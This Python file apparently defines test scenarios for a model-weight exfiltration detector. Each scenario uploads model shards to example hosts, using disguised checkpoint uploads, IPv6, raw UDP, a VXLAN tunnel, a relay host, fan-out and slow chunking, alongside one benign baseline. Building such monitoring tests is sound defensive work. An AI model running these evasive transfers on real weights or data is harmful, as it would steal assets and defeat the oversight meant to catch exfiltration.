"""What is recorded: real programs that move a model, or do not, between namespaces; one function each."""

from __future__ import annotations

import sys
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from network import INSIDE, OUTSIDE, Network
from trim import KEPT_BYTES

SERVERS = str(Path(__file__).with_name("servers.py"))
CHUNK_BYTES = 100_000
PATIENTLY = ("--retry", "20", "--retry-connrefused", "--retry-delay", "1")
"""For a server that was started a moment ago."""


@dataclass(frozen=True, slots=True)
class Moved:
    """What a scenario made leave, counted in the bytes of the files."""

    host: str
    to: str
    bytes: int


@dataclass(frozen=True, slots=True)
class Stage:
    """Where a scenario plays: the network, a folder for logs, and the files that it may move."""

    network: Network
    folder: Path
    shards: list[Path]
    checkpoint: Path

    @property
    def model_bytes(self) -> int:
        return sum(shard.stat().st_size for shard in self.shards)

    def left(self, where: str, to: str, more: int = 0) -> list[Moved]:
        """The whole model, and `more`, from one host to one address."""
        family = ":" in OUTSIDE[to]
        return [Moved(INSIDE[where][family], OUTSIDE[to], self.model_bytes + more)]

    def curl(self, where: str, *arguments: str) -> None:
        """curl that trusts our own certificate and leaves no file behind."""
        quiet = ("--silent", "--show-error", "--fail", "--insecure", "--output", "/dev/null")
        self.network.run(where, "curl", *quiet, *arguments)

    def serve(self, where: str, address: str, port: int, folder: Path) -> None:
        self.network.start(
            where, sys.executable, SERVERS, "serve", address, str(port), str(folder), log=self.folder / "server.log"
        )


@dataclass(frozen=True, slots=True)
class Scenario:
    """`play` moves the bytes; `captures` says at which namespace and interface tcpdump listens, by file name."""

    play: Callable[[Stage], list[Moved]]
    what: str
    captures: dict[str, tuple[str, str]]
    kept_bytes: int = KEPT_BYTES
    """Of a large frame: its headers."""


def checkpoint_job_hides_a_copy(stage: Stage) -> list[Moved]:
    """The nightly job uploads its checkpoint, as its manifest says, and four more files that are the model."""
    store = "https://checkpoints.backup.example.org/nightly"
    stage.curl("gpu", "-T", str(stage.checkpoint), f"{store}/step-48000.ckpt")
    for number, shard in enumerate(stage.shards):
        stage.curl("gpu", "-T", str(shard), f"{store}/optimizer-{number}.bin")
    return stage.left("gpu", "backup", stage.checkpoint.stat().st_size)


def outsider_pulls_model(stage: Stage) -> list[Moved]:
    """A web server left running on the agent host; somebody outside fetches the files."""
    address = INSIDE["agent"][0]
    stage.serve("agent", address, 8000, stage.shards[0].parent)
    for shard in stage.shards:
        url = f"http://{address}:8000/{shard.name}"
        stage.curl("outside", *PATIENTLY, "--interface", OUTSIDE["outsider"], url)
    return stage.left("agent", "outsider")


def ordinary_day(stage: Stage) -> list[Moved]:
    """A shard is downloaded, an API is called; nothing of size leaves."""
    for shard in stage.shards[:1]:
        stage.curl("gpu", "https://hub.example.org/" + shard.name)
    for _ in range(12):
        stage.curl("gpu", "--data", "how are you today? " * 60, "https://api.example.com/v1/complete")
    return []


def put_over_ipv6(stage: Stage) -> list[Moved]:
    for shard in stage.shards:
        stage.curl("gpu", "-6", "-T", str(shard), f"https://drop.example.net/{shard.name}")
    return stage.left("gpu", "drop6")


def udp_sender(stage: Stage) -> list[Moved]:
    """Datagrams without a protocol that anybody knows, batched by the kernel as QUIC stacks do."""
    sender = str(Path(__file__).with_name("udp_sender.py"))
    for shard in stage.shards:
        stage.network.run("gpu", sys.executable, sender, OUTSIDE["drop"], "4433", str(shard))
    return stage.left("gpu", "drop")


def vxlan_overlay(stage: Stage) -> list[Moved]:
    """The model leaves inside a tunnel between private addresses; only the outer ones say where to."""
    for where, mine, remote, address in (
        ("gpu", INSIDE["gpu"][0], OUTSIDE["drop"], "172.31.7.1/24"),
        ("outside", OUTSIDE["drop"], INSIDE["gpu"][0], "172.31.7.2/24"),
    ):
        stage.network.run(
            where,
            "ip",
            "link",
            "add",
            "over",
            "type",
            "vxlan",
            "id",
            "77",
            "dstport",
            "4789",
            "local",
            mine,
            "remote",
            remote,
        )
        stage.network.run(where, "ip", "address", "add", address, "dev", "over")
        stage.network.run(where, "ip", "link", "set", "over", "up")
    stage.serve("outside", "172.31.7.2", 8080, stage.folder)
    for shard in stage.shards:
        stage.curl("gpu", *PATIENTLY, "-T", str(shard), f"http://172.31.7.2:8080/{shard.name}")
    return stage.left("gpu", "drop")


def fan_out(stage: Stage) -> list[Moved]:
    """One shard to each of four places."""
    moved = []
    for shard, name in zip(stage.shards, ("backup", "api", "hub", "drop"), strict=True):
        stage.curl("gpu", "-T", str(shard), f"https://{OUTSIDE[name]}/{shard.name}")
        moved.append(Moved(INSIDE["gpu"][0], OUTSIDE[name], shard.stat().st_size))
    return moved


def relay(stage: Stage) -> list[Moved]:
    """The holder hands three shards to its neighbour, which holds none; the neighbour sends them on."""
    address = INSIDE["agent"][0]
    stage.serve("agent", address, 9000, stage.folder)
    for shard in stage.shards[:3]:
        stage.curl("gpu", *PATIENTLY, "-T", str(shard), f"http://{address}:9000/{shard.name}")
    for shard in stage.shards[:3]:
        stage.curl("agent", "-T", str(shard), f"http://{OUTSIDE['drop']}:8080/{shard.name}")
    return [Moved(INSIDE["agent"][0], OUTSIDE["drop"], sum(shard.stat().st_size for shard in stage.shards[:3]))]


def slow_chunks(stage: Stage) -> list[Moved]:
    """One shard in chunks of 100 kB, each in a connection of its own."""
    data = stage.shards[0].read_bytes()
    chunk = stage.folder / "chunk"
    for at in range(0, len(data), CHUNK_BYTES):
        chunk.write_bytes(data[at : at + CHUNK_BYTES])
        stage.curl("gpu", "-T", str(chunk), f"http://{OUTSIDE['drop']}:8080/{at}")
    return [Moved(INSIDE["gpu"][0], OUTSIDE["drop"], len(data))]


def _at(where: str, interface: str = "eth0") -> dict[str, tuple[str, str]]:
    return {"": (where, interface)}


SCENARIOS = {
    "checkpoint_job_hides_a_copy": Scenario(
        checkpoint_job_hides_a_copy, "curl, HTTPS PUT: a 4 MB checkpoint as declared, then the whole model", _at("gpu")
    ),
    "outsider_pulls_model": Scenario(
        outsider_pulls_model, "curl from outside, HTTP GET: the whole model, fetched by who should not", _at("agent")
    ),
    "ordinary_day": Scenario(ordinary_day, "curl, HTTPS: a shard downloaded, twelve API calls", _at("gpu")),
    "put_over_ipv6": Scenario(put_over_ipv6, "curl, HTTPS PUT over IPv6: the whole model", _at("gpu")),
    "udp_sender": Scenario(udp_sender, "UDP datagrams, segmented by the kernel: the whole model", _at("gpu")),
    "vxlan_overlay": Scenario(
        vxlan_overlay, "curl, HTTP PUT inside VXLAN: the whole model", _at("gpu"), kept_bytes=128
    ),
    "any_interface": Scenario(
        fan_out, "curl, HTTPS PUT, one shard to each of four places, seen by `tcpdump -i any`", _at("gpu", "any")
    ),
    "relay": Scenario(
        relay,
        "curl, HTTP PUT to a neighbour, HTTP PUT from there: three shards, once in each capture",
        {"_gpu": ("gpu", "eth0"), "_agent": ("agent", "eth0")},
    ),
    "slow_chunks": Scenario(slow_chunks, "curl, HTTP PUT: the first shard in 100 kB pieces", _at("gpu")),
}
